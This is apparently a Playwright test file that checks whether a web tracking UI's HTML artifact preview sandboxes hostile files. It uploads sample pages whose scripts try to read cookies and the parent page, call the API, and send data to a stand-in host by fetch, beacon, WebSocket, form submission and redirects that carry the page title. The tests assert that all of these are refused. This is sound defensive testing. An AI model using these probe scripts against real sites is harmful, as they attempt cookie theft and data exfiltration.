import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, test } from 'node:test'
import type { Frame, Page } from 'playwright-core'
import { startedWeb } from './started.ts'

const soon = { timeout: 30_000 }

let elsewhere: Server
let asked: string[] = []
let experiment_id = ''
let run_id = ''

/** An HTML file that tries whatever a script in a page can try, and writes down what came of it. */
const hostile = (other: string, path: string): string => `<!doctype html>
<link rel="stylesheet" href="${other}/style"><img src="${other}/picture">
<form id="form" action="${other}/form" method="post"><input name="a" value="1"></form>
<pre id="log"></pre>
<script>
const found = {}
const tell = async (name, work) => {
  try { found[name] = String(await work()) } catch (error) { found[name] = 'refused: ' + error.name }
}
;(async () => {
  await tell('script', () => 'ran')
  await tell('origin', () => self.origin)
  await tell('cookie', () => document.cookie)
  await tell('storage', () => localStorage.length)
  await tell('parent', () => parent.document.title)
  await tell('marked', () => { parent.ran = 1; return 'done' })
  await tell('api', async () => (await fetch('${path}api/2.0/mlflow/experiments/get?experiment_id=0')).status)
  await tell('artifact', async () => (await fetch('${path}get-artifact?run_uuid=x&path=y', { mode: 'no-cors' })).type)
  await tell('elsewhere', async () => (await fetch('${other}/fetch', { mode: 'no-cors' })).type)
  await tell('beacon', () => navigator.sendBeacon('${other}/beacon', 'x'))
  await tell('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket('${other.replace('http', 'ws')}/socket')
    socket.onopen = done
    socket.onerror = () => fail(new TypeError())
  }))
  await tell('window', () => window.open('${other}/window'))
  await tell('form', () => document.getElementById('form').submit())
  await tell('top', () => { top.location = '${other}/top'; return 'set' })
  await tell('frame', () => {
    const inner = document.createElement('iframe')
    inner.src = '${other}/inner'
    document.body.append(inner)
  })
  document.getElementById('log').textContent = JSON.stringify(found)
  document.body.dataset.done = '1'
})()
</script>`

const web = startedWeb({
  async fill({ server, client }) {
    elsewhere = createServer((request, response) => {
      asked.push(String(request.url))
      response.end('x')
    })
    await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
    experiment_id = (await client.experiments.create({ name: 'previews' })).experiment_id
    run_id = (await client.runs.create({ experiment_id, run_name: 'drawn', start_time: 1_700_000_000_000 })).run.info.run_id
    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    const files = {
      'hostile.html': hostile(other, `${server.url}/`),
      'leaves.html': `<p>here</p><script>setTimeout(() => { location = '${other}/gone?' + document.title }, 100)</script>`,
      'plot.html': '<p id="drawn"></p><script>document.getElementById("drawn").textContent = "drawn by " + "its own script"</script>',
    }
    for (const [path, text] of Object.entries(files)) await client.uploadArtifact({ run_id }, path, new TextEncoder().encode(text))
  },
})
after(() => elsewhere?.close())

async function previewOf(path: string): Promise<{ page: Page; frame: Frame }> {
  asked = []
  const context = await web.browser.newContext()
  await context.addCookies([{ name: 'secret', value: 'of the server', url: web.server.url }])
  const page = await context.newPage()
  await page.goto(`${web.server.url}/#/experiments/${experiment_id}/runs/${run_id}?tab=artifacts&path=${path}`)
  const frame = await (await page.locator('iframe.framed').elementHandle(soon))?.contentFrame()
  assert.ok(frame)
  return { page, frame }
}

test('a page that draws itself by a script of its own is shown, and can be read as text', async () => {
  const { page, frame } = await previewOf('plot.html')
  await frame.getByText('drawn by its own script').waitFor(soon)
  await page.getByRole('button', { name: 'Source' }).click()
  await page.getByText('document.getElementById("drawn")').waitFor(soon)
})

test('BR-09 BR-10 a hostile HTML file runs in an origin of nobody, and reaches no cookie, no API, no page and no address', async () => {
  const { page, frame } = await previewOf('hostile.html')
  await frame.locator('body[data-done]').waitFor(soon)
  const found = JSON.parse(await frame.locator('#log').innerText()) as Record<string, string>
  assert.equal(found.script, 'ran')
  assert.equal(found.origin, 'null')
  for (const name of ['cookie', 'storage', 'parent', 'marked', 'top']) assert.match(found[name] ?? '', /^refused: SecurityError/, name)
  for (const name of ['api', 'artifact', 'elsewhere', 'socket']) assert.match(found[name] ?? '', /^refused/, name)
  assert.equal(found.window, 'null')
  await page.waitForTimeout(300)
  assert.deepEqual(asked, [])
  assert.equal(await page.evaluate(() => (globalThis as { ran?: number }).ran), undefined)
  assert.ok(page.url().startsWith(web.server.url))
})

test('BR-09 a previewed file can’t lead its frame to another host, with what it knows in the address', async () => {
  const { page } = await previewOf('leaves.html')
  await page.waitForTimeout(1_000)
  assert.deepEqual(asked, [])
})

test('BR-09 the frame is empty at its address, has a sandbox of its own, and takes nothing from a page of another site', async () => {
  const answer = await fetch(`${web.server.url}/preview-frame`)
  const policy = answer.headers.get('content-security-policy') ?? ''
  assert.match(policy, /^sandbox allow-scripts; default-src 'none';/)
  assert.match(policy, /frame-ancestors 'self'/)
  assert.doesNotMatch(policy, /allow-same-origin|connect-src|https?:/)
  const artifact = await fetch(`${web.server.url}/get-artifact?run_uuid=${run_id}&path=hostile.html`)
  assert.match(artifact.headers.get('content-disposition') ?? '', /^attachment/)
  await artifact.body?.cancel()
})
